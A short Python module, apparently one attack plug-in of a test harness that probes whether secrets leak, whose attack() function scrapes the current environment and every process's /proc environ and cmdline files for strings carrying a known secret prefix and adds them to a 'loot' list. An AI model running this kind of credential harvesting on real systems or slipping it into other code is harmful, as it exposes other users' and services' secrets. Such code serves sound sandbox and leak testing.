"""Look for secrets in the environments and command lines of all processes there are."""

import glob

CLASS = "reading"
GAINS = ("read",)


def attack():
    found = [text for item in os.environ.items() for text in item]
    for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
        try:
            with open(path, "rb") as file:
                found += file.read().decode(errors="replace").replace("=", "\0").split("\0")
        except OSError:
            pass
    loot.extend(text for text in found if text.startswith(KNOWN["prefix"]))
